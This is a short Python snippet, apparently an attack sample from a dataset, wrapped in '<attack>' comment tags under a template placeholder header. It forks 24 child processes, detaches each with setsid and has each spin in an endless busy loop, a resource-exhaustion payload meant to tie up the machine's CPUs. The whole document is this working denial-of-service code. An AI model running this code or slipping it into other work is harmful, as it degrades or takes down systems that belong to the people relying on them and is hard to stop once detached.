#{crew_right}
# <attack>
import os

for _ in range(24):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
# </attack>
